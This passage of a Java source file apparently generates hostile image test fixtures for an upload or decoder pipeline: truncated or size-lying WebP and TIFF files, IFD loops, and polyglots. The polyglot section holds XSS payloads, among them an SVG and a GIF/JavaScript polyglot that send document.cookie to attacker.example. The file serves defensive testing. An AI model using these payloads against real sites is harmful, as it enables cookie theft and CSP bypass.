    long[] acc = {0, 0}; // bit buffer, bit count
    int codeSize = minCodeSize + 1;
    int next = end + 1;
    Map<Integer, Integer> table = new HashMap<>();
    emit(out, acc, clear, codeSize);
    int prefix = pixels[0] & 0xFF;
    for (int i = 1; i < pixels.length; i++) {
      int k = pixels[i] & 0xFF;
      Integer code = table.get((prefix << 8) | k);
      if (code != null) {
        prefix = code;
        continue;
      }
      emit(out, acc, prefix, codeSize);
      table.put((prefix << 8) | k, next++);
      if (next > (1 << codeSize) && codeSize < 12) {
        codeSize++;
      }
      if (next >= 4000) {
        emit(out, acc, clear, codeSize);
        table.clear();
        next = end + 1;
        codeSize = minCodeSize + 1;
      }
      prefix = k;
    }
    emit(out, acc, prefix, codeSize);
    emit(out, acc, end, codeSize);
    if (acc[1] > 0) {
      out.u8((int) acc[0]);
    }
    return out.toByteArray();
  }

  private static void emit(Bytes out, long[] acc, int code, int size) {
    acc[0] |= ((long) code) << acc[1];
    acc[1] += size;
    while (acc[1] >= 8) {
      out.u8((int) (acc[0] & 0xFF));
      acc[0] >>>= 8;
      acc[1] -= 8;
    }
  }

  // ---------------------------------------------------------------------------------------------
  // WebP

  private static void webp(List<HostileFile> files) {
    byte[] valid = validWebp();
    // Truncated upload inside the VP8 partition (boolean-decoder end-of-data handling).
    files.add(
        new HostileFile(
            "webp-truncated-at-60-percent.webp",
            "A valid 48x32 lossy WebP cut at 60% of its length, inside the VP8 bitstream.",
            Expect.FAILS_TO_DECODE,
            Arrays.copyOf(valid, valid.length * 6 / 10)));
    // Lying RIFF/chunk sizes (container parsers trusting sizes for allocation and seeking).
    byte[] lying = valid.clone();
    ByteBuffer b = ByteBuffer.wrap(lying).order(ByteOrder.LITTLE_ENDIAN);
    b.putInt(4, 0x7FFFFFF0); // RIFF size
    b.putInt(16, 0x7FFFFFF0); // VP8 chunk size
    files.add(
        new HostileFile(
            "webp-vp8-chunk-sizes-lie.webp",
            "A valid 48x32 WebP whose RIFF size and VP8 chunk size both claim 2 GB.",
            Expect.FAILS_TO_DECODE,
            lying));
    // The VP8L parser is where CVE-2023-4863 lived (this file lies about sizes, it does not
    // reproduce that Huffman overflow).
    files.add(
        new HostileFile(
            "webp-vp8l-chunk-sizes-lie.webp",
            "A 100x100 lossless WebP header whose RIFF and VP8L chunk sizes claim 2 GB, followed by"
                + " 24 bytes of bitstream.",
            Expect.FAILS_TO_DECODE,
            webpVp8lLying(100, 100)));
    // Canvas allocation from the VP8X header alone, with nothing to decode into it.
    files.add(
        new HostileFile(
            "webp-vp8x-canvas-16383x16383-no-image.webp",
            "An extended WebP whose VP8X canvas is 16383x16383 (268 MP) with no image chunk at all.",
            Expect.REFUSED_FROM_HEADER,
            webpVp8xOnly(16_383, 16_383)));
  }

  private static byte[] webpVp8lLying(int width, int height) {
    Bytes out = new Bytes().raw("RIFF".getBytes(StandardCharsets.US_ASCII)).u32le(0x7FFFFFF0);
    out.raw("WEBPVP8L".getBytes(StandardCharsets.US_ASCII)).u32le(0x7FFFFFF0);
    out.u8(0x2F); // VP8L signature
    int header = (width - 1) | ((height - 1) << 14); // alpha 0, version 0
    out.u32le(header);
    byte[] stream = new byte[24];
    new Random(23).nextBytes(stream);
    return out.raw(stream).toByteArray();
  }

  private static byte[] webpVp8xOnly(int width, int height) {
    Bytes out = new Bytes().raw("RIFF".getBytes(StandardCharsets.US_ASCII)).u32le(4 + 8 + 10);
    out.raw("WEBPVP8X".getBytes(StandardCharsets.US_ASCII)).u32le(10);
    out.u8(0).u8(0).u8(0).u8(0); // flags, reserved
    out.u24le(width - 1).u24le(height - 1);
    return out.toByteArray();
  }

  // ---------------------------------------------------------------------------------------------
  // TIFF

  private static final int SHORT = 3;
  private static final int LONG = 4;

  private static void tiff(List<HostileFile> files) {
    // Entry counts trusted for allocation (libtiff bounds these by the file size).
    files.add(
        new HostileFile(
            "tiff-claims-100-million-strips.tiff",
            "A 100x100 RGB TIFF whose StripOffsets and StripByteCounts each claim 100,000,000"
                + " entries (400 MB apiece) in a file of a few hundred bytes.",
            Expect.FAILS_TO_DECODE,
            tiffHugeStripCount()));
    // IFD loops (libtiff's _TIFFCheckDirOffset exists for this).
    files.add(
        new HostileFile(
            "tiff-ifd-points-to-itself.tiff",
            "A valid 8x8 RGB TIFF whose IFD's next-IFD offset points back to the same IFD.",
            Expect.FAILS_TO_DECODE,
            tiffLoop(false)));
    // The same loop over two IFDs, which a check of only the previous offset misses.
    files.add(
        new HostileFile(
            "tiff-ifd-loop-to-first.tiff",
            "A two-page 8x8 RGB TIFF whose second IFD's next-IFD offset points back to the first.",
            Expect.FAILS_TO_DECODE,
            tiffLoop(true)));
    // Truncated upload inside strip data (strip reads past the end of the file).
    files.add(
        new HostileFile(
            "tiff-truncated-mid-strip.tiff",
            "A valid 400x300 uncompressed RGB TIFF in 19 strips, cut in the middle of strip 10.",
            Expect.FAILS_TO_DECODE,
            tiffTruncated()));
  }

  /** One IFD entry: tag, type, count, value or offset (SHORT values left-justified). */
  private static void entry(Bytes t, int tag, int type, int count, int value) {
    t.u16le(tag).u16le(type).u32le(count);
    if (type == SHORT && count == 1) {
      t.u16le(value).u16le(0);
    } else {
      t.u32le(value);
    }
  }

  /**
   * An IFD for a chunky 8-bit RGB image in strips, written at the buffer's current position; the
   * BitsPerSample array is at {@code bpsOffset}.
   */
  private static void rgbIfd(
      Bytes t,
      int width,
      int height,
      int rowsPerStrip,
      int strips,
      int offsets,
      int counts,
      int bpsOffset,
      int next) {
    t.u16le(10);
    entry(t, 256, SHORT, 1, width);
    entry(t, 257, SHORT, 1, height);
    entry(t, 258, SHORT, 3, bpsOffset);
    entry(t, 259, SHORT, 1, 1); // no compression
    entry(t, 262, SHORT, 1, 2); // RGB
    entry(t, 273, LONG, strips, offsets);
    entry(t, 277, SHORT, 1, 3);
    entry(t, 278, SHORT, 1, rowsPerStrip);
    entry(t, 279, LONG, strips, counts);
    entry(t, 284, SHORT, 1, 1); // chunky
    t.u32le(next);
  }

  private static final int IFD_SIZE = 2 + 10 * 12 + 4;

  private static byte[] tiffHugeStripCount() {
    Bytes t = new Bytes().u8('I').u8('I').u16le(42).u32le(8);
    int bps = 8 + IFD_SIZE;
    int arrays = bps + 6;
    rgbIfd(t, 100, 100, 1, 100_000_000, arrays, arrays, bps, 0);
    t.u16le(8).u16le(8).u16le(8);
    for (int i = 0; i < 64; i++) {
      t.u32le(arrays + 256);
    }
    return t.toByteArray();
  }

  private static byte[] tiffLoop(boolean twoPages) {
    Bytes t = new Bytes().u8('I').u8('I').u16le(42).u32le(8);
    int second = 8 + IFD_SIZE;
    int bps = twoPages ? second + IFD_SIZE : second;
    int data = bps + 6;
    // With one strip the offset and count are stored in the entry itself.
    rgbIfd(t, 8, 8, 8, 1, data, 8 * 8 * 3, bps, twoPages ? second : 8);
    if (twoPages) {
      rgbIfd(t, 8, 8, 8, 1, data, 8 * 8 * 3, bps, 8);
    }
    t.u16le(8).u16le(8).u16le(8);
    for (int i = 0; i < 8 * 8 * 3; i++) {
      t.u8(i * 3);
    }
    return t.toByteArray();
  }

  private static byte[] tiffTruncated() {
    int width = 400;
    int height = 300;
    int rowsPerStrip = 16;
    int strips = (height + rowsPerStrip - 1) / rowsPerStrip;
    Bytes t = new Bytes().u8('I').u8('I').u16le(42).u32le(8);
    int bps = 8 + IFD_SIZE;
    int offsets = bps + 6;
    int counts = offsets + 4 * strips;
    int data = counts + 4 * strips;
    rgbIfd(t, width, height, rowsPerStrip, strips, offsets, counts, bps, 0);
    t.u16le(8).u16le(8).u16le(8);
    int stripBytes = width * 3 * rowsPerStrip;
    for (int i = 0; i < strips; i++) {
      t.u32le(data + i * stripBytes);
    }
    for (int i = 0; i < strips; i++) {
      int rows = Math.min(rowsPerStrip, height - i * rowsPerStrip);
      t.u32le(rows * width * 3);
    }
    byte[] pixels = new byte[width * height * 3];
    new Random(29).nextBytes(pixels);
    t.raw(pixels);
    byte[] whole = t.toByteArray();
    return Arrays.copyOf(whole, data + 9 * stripBytes + stripBytes / 2);
  }

  // ---------------------------------------------------------------------------------------------
  // Polyglots

  private static void polyglots(List<HostileFile> files) {
    // Content-sniffing XSS: a browser sniffing HTML first runs the script.
    byte[] png = pngWith(out -> {});
    files.add(
        new HostileFile(
            "html-script-then-png.png",
            "An HTML document with a script whose comment swallows a complete PNG appended to it.",
            Expect.REFUSED_BY_SNIFFING,
            new Bytes()
                .raw(
                    "<html><script>alert(document.domain)</script><!--"
                        .getBytes(StandardCharsets.US_ASCII))
                .raw(png)
                .raw("-->".getBytes(StandardCharsets.US_ASCII))
                .toByteArray()));
    // CVE-2016-3714 (ImageTragick) class: a vector document named like a raster image.
    files.add(
        new HostileFile(
            "svg-with-script.png",
            "An SVG with an onload handler, a script and an external image reference, named .png.",
            Expect.REFUSED_BY_SNIFFING,
            ("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\""
                    + " width=\"100\" height=\"100\" onload=\"alert(1)\">"
                    + "<script>fetch('https://attacker.example/?c='+document.cookie)</script>"
                    + "<image xlink:href=\"https://attacker.example/track.png\" width=\"1\""
                    + " height=\"1\"/></svg>")
                .getBytes(StandardCharsets.UTF_8)));
    // GIF/JavaScript polyglot, used to bypass CSP script-src 'self' via an uploaded "image".
    files.add(
        new HostileFile(
            "gif-javascript-polyglot.gif",
            "'GIF89a/*' - also valid JavaScript - whose logical screen (10799x10 from the '/*' bytes)"
                + " is legal but whose LZW data is a script.",
            Expect.FAILS_TO_DECODE,
            gifJavascriptPolyglot()));
  }

  /**
   * As JavaScript: {@code GIF89a/* binary *}{@code /=alert(document.domain);/* rest}. As a GIF:
   * width 0x2A2F = 10799 (the bytes of "/*"), height 10, no colour table, a comment extension
   * holding the script, and one 10799x10 image whose "LZW data" is JavaScript text - a legal header
   * (1 MP, sides under 30,000), so the failure must come from decoding.
   */
  private static byte[] gifJavascriptPolyglot() {
    Bytes out = new Bytes().raw("GIF89a/*".getBytes(StandardCharsets.US_ASCII));
    out.u16le(10).u8(0).u8(0).u8(0); // height 10, no global table
    out.u8(0x21).u8(0xFE);
    subBlocks(out, "*/=alert(document.domain);/*".getBytes(StandardCharsets.US_ASCII));
    out.u8(0x2C).u16le(0).u16le(0).u16le(0x2A2F).u16le(10).u8(0);
    out.u8(8);
    subBlocks(
        out,
        ("fetch('//attacker.example/'+document.cookie);".repeat(4))
            .getBytes(StandardCharsets.US_ASCII));
    out.raw("*/".getBytes(StandardCharsets.US_ASCII)).u8(0x3B);
    return out.toByteArray();
  }

  // ---------------------------------------------------------------------------------------------
  // Helpers

  /** A deterministic gradient with noise: realistic enough that codecs cannot flatten it. */
  private static BufferedImage baseImage(int width, int height, int type, long seed) {
    Random random = new Random(seed);
    BufferedImage rgb = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
    for (int y = 0; y < height; y++) {
      for (int x = 0; x < width; x++) {
        int r = (x * 255 / Math.max(1, width - 1) + random.nextInt(24)) & 0xFF;
        int g = (y * 255 / Math.max(1, height - 1) + random.nextInt(24)) & 0xFF;
        int b = ((x + y) * 2 + random.nextInt(24)) & 0xFF;
        rgb.setRGB(x, y, (r << 16) | (g << 8) | b);
      }
    }
    if (type == BufferedImage.TYPE_INT_RGB) {
      return rgb;
    }
    BufferedImage out = new BufferedImage(width, height, type);
    Graphics2D g = out.createGraphics();
    try {
      g.drawImage(rgb, 0, 0, null);
    } finally {
      g.dispose();
    }
    return out;
  }

  private static byte[] encode(BufferedImage image, String format) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      if (!ImageIO.write(image, format, out)) {
        throw new IllegalStateException("no ImageIO writer for " + format);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  /** A growable byte buffer with little- and big-endian writers. */
  private static final class Bytes {
    private final ByteArrayOutputStream out = new ByteArrayOutputStream();

    Bytes u8(int v) {
      out.write(v);
      return this;
    }

    Bytes u16le(int v) {
      return u8(v).u8(v >>> 8);
    }

    Bytes u24le(int v) {
      return u8(v).u8(v >>> 8).u8(v >>> 16);
    }

    Bytes u32le(int v) {
      return u8(v).u8(v >>> 8).u8(v >>> 16).u8(v >>> 24);
    }

    Bytes u16be(int v) {
      return u8(v >>> 8).u8(v);
    }

    Bytes u32be(int v) {
      return u8(v >>> 24).u8(v >>> 16).u8(v >>> 8).u8(v);
    }

    Bytes raw(byte[] bytes) {
      out.writeBytes(bytes);
      return this;
    }

    Bytes raw(byte[] bytes, int length) {
      out.write(bytes, 0, length);
      return this;
    }

    byte[] toByteArray() {
      return out.toByteArray();
    }
  }
}
